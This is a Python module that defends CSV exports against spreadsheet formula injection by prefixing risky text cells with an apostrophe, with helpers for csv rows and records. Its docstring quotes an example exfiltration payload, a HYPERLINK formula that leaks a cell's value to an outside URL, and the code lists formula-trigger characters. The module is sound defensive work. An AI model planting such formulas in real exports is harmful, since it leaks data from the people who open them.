"""CSV cells a spreadsheet will not run as formulas (CSV injection).

Why: Excel, LibreOffice and Google Sheets evaluate a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula, and a tab or carriage return in
front does not stop them. newsdiff's CSV cells carry other people's text —
article sentences, file names, a student's self-chosen name as the first
cell of a grade sheet — so ``=HYPERLINK("http://…?leak="&A1,"Click")`` must
arrive as text. Following OWASP's CSV-injection guidance, such a text cell
gets a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets show as
text and a reader recognises; the csv module's quoting takes care of commas
and double quotes. Numbers written by newsdiff itself (offsets, scores) are
not text and pass unchanged.

Public API: ``neutralise_cell``, ``safe_row``, ``safe_record``, ``FORMULA_STARTS``.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping

__all__ = ["FORMULA_STARTS", "neutralise_cell", "safe_record", "safe_row"]

# OWASP's list: the four formula triggers plus tab and carriage return.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """``value`` with a ``'`` in front when it is text a spreadsheet would evaluate.

    Leading spaces and line feeds are looked through too: some spreadsheets
    strip them before deciding what a cell is.
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip(" \n").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    """A ``csv.writer`` row with every text cell neutralised."""
    return [neutralise_cell(value) for value in row]


def safe_record(record: Mapping[str, object]) -> dict[str, object]:
    """A ``csv.DictWriter`` row with every text cell neutralised."""
    return {key: neutralise_cell(value) for key, value in record.items()}
